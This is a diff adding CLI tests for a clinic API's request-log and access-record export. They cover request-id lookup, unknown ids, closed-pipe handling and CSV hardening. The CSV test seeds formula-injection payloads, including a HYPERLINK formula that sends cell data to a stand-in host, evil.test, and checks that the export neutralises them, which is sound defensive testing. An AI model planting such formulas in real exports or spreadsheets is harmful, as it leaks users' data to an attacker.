@@ -1,7 +1,11 @@
 // clinic-api logs and clinic-api access (docs/cli.md): a clinic's request log and a clienta's
 // access record as JSON lines or CSV, filtered by key, status and time; another clinic's entries
-// never shown; every bad option refused with exit 2 naming it, nothing printed on stdout.
-// In-process on a temporary DATA_DIR (SQLite); the entries written by the log's own writer.
+// never shown; every bad option refused with exit 2 naming it, nothing printed on stdout; one
+// request found by its id; the CSV safe to open (line breaks quoted, formulas neutralised); a
+// closed pipe (| head) ends the command quietly. In-process on a temporary DATA_DIR (SQLite), and
+// as its own process for the pipe; the entries written by the log's own writer.
+import { spawn } from 'node:child_process';
+import { fileURLToPath } from 'node:url';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { requestLogRowMaker } from '../../src/http/request-log-row.js';
@@ -104,6 +108,21 @@ describe('clinic-api logs', () => {
     const csv = parse(exact.stdout, { columns: true }) as Record<string, string>[];
     expect(csv.map((x) => x.request_id!.split('-').pop())).toEqual(['6', '9']);
     expect(csv[0]).toMatchObject({ status: '404', error_code: 'not_found', records: '', error_body: '{"error":{"code":"not_found"}}' });
+  });
+
+  it('--request-id finds one request by the id the API returned, in the clinic’s own log only', async () => {
+    const one = await cli(['logs', '--clinic', clinicA, '--request-id', `${clinicA}-req-4`]);
+    expect(one.code, one.stderr).toBe(0);
+    const rows = one.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
+    expect(rows.map((x) => x.request_id)).toEqual([`${clinicA}-req-4`]);
+    expect(one.stderr).toBe('1 request\n');
+    // Another clinic's request id: none.
+    const other = await cli(['logs', '--clinic', clinicA, '--request-id', `${clinicB}-req-4`]);
+    expect([other.code, other.stdout]).toEqual([0, '']);
+    refused(await cli(['logs', '--clinic', clinicA, '--request-id', 'a b']), '--request-id', 'X-Request-Id');
   });
 
   it('refuses bad options with exit 2, naming them', async () => {
@@ -214,5 +233,98 @@ describe('clinic-api access', () => {
   it('refuses a clienta that is not an id, with exit 2', async () => {
     refused(await cli(['access', '--clinic', clinicA, '--clienta', 'maria']), '--clienta', 'UUID');
     refused(await cli(['access', '--clinic', clinicA]), '--clienta');
+  });
+
+  it('refuses an unknown clienta id (no clienta, nothing in the log names one) with exit 2', async () => {
+    const unknown = '0a000001-0000-4000-8000-0000000000ff';
+    refused(await cli(['access', '--clinic', clinicA, '--clienta', unknown]), 'no clienta with id', unknown);
+    refused(await cli(['access', '--clinic', clinicA, '--clienta', unknown, '--format', 'csv']), 'no clienta with id');
+  });
+});
+
+describe('the CSV is safe to open in a spreadsheet', () => {
+  let clinicE: string;
+  const hyperlink = '=HYPERLINK("http://evil.test/?"&A1,"x")';
+
+  beforeAll(async () => {
+    clinicE = (await cli(['clinics', 'create', '--name', 'Clínica Cinco', '--plan', 'premium'])).stdout.trim();
+    await withRuntimeAt(dataDir, async (rt) => {
+      const log = new RequestLog(rt.database, { toRow: requestLogRowMaker('svc') });
+      const agents = [hyperlink, '+1+2', '-2+3', '@SUM(1)', '\tTab', 'line\nfeed', 'carriage\rreturn', 'curl/8.5'];
+      agents.forEach((userAgent, n) => log.record(entry(clinicE, n, { userAgent, status: 200, clientas: [CLIENTA] })));
+      await log.flush();
+    });
+  });
+
+  it('logs and access: a lone LF or CR quoted (one entry, one row), every cell that starts a formula neutralised', async () => {
+    const r = await cli(['logs', '--clinic', clinicE, '--format', 'csv']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"`);
+    expect(r.stdout).toContain('"line\nfeed"');
+    expect(r.stdout).toContain('"carriage\rreturn"');
+    // Read as RFC 4180 with CRLF records: a bare LF or CR outside quotes would start a new row.
+    const rows = parse(r.stdout, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
+    expect(rows.map((x) => x.user_agent)).toEqual([
+      `'${hyperlink}`,
+      "'+1+2",
+      "'-2+3",
+      "'@SUM(1)",
+      "'\tTab",
+      'line\nfeed',
+      'carriage\rreturn',
+      'curl/8.5',
+    ]);
+    expect(rows.every((x) => x.status === '200' && x.path === '/api/v1/clientas')).toBe(true);
+    // JSON lines are data for programs: unchanged.
+    const json = await cli(['logs', '--clinic', clinicE]);
+    expect((JSON.parse(json.stdout.split('\n')[0]!) as { user_agent: string }).user_agent).toBe(hyperlink);
+    const access = await cli(['access', '--clinic', clinicE, '--clienta', CLIENTA, '--format', 'csv']);
+    expect(access.code, access.stderr).toBe(0);
+    expect(parse(access.stdout, { columns: true, record_delimiter: '\r\n' })).toHaveLength(8);
+  });
+});
+
+describe('a closed pipe (clinic-api logs | head)', () => {
+  let clinicF: string;
+  const ROOT = fileURLToPath(new URL('../..', import.meta.url));
+
+  beforeAll(async () => {
+    clinicF = (await cli(['clinics', 'create', '--name', 'Clínica Seis', '--plan', 'premium'])).stdout.trim();
+    await withRuntimeAt(dataDir, async (rt) => {
+      const log = new RequestLog(rt.database, { toRow: requestLogRowMaker('svc') });
+      // Far more than a pipe holds (64 KiB): the command is still writing when the reader goes.
+      for (let n = 0; n < 4_000; n++) log.record(entry(clinicF, n, { status: 200, clientas: [CLIENTA], userAgent: 'x'.repeat(150) }));
+      await log.flush();
+    });
+  });
+
+  /** The command as its own process; its stdout closed after the first chunk, as `head` does. */
+  function closedEarly(args: string[]): Promise<{ code: number | null; stderr: string; first: string }> {
+    const child = spawn(process.execPath, ['--import', 'tsx', 'test/cli/run-cli.ts', ...args], {
+      cwd: ROOT,
+      env: { PATH: process.env.PATH ?? '', TZ: 'UTC', DATA_DIR: dataDir, LOG_LEVEL: 'silent' },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    let stderr = '';
+    let first = '';
+    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
+    child.stdout.once('data', (c: Buffer) => {
+      first = c.toString();
+      child.stdout.destroy();
+    });
+    return new Promise((resolve) => child.once('close', (code) => resolve({ code, stderr, first })));
+  }
+
+  it.each([
+    ['logs', 'jsonl'],
+    ['logs', 'csv'],
+    ['access', 'jsonl'],
+    ['access', 'csv'],
+  ])('%s --format %s ends quietly: exit 0, no stack trace', async (command, fmt) => {
+    const args = command === 'logs' ? ['logs', '--clinic', clinicF] : ['access', '--clinic', clinicF, '--clienta', CLIENTA];
+    const r = await closedEarly([...args, '--format', fmt]);
+    expect(r.first.length).toBeGreaterThan(0);
+    expect(r.stderr).toBe('');
+    expect(r.code).toBe(0);
   });
 });
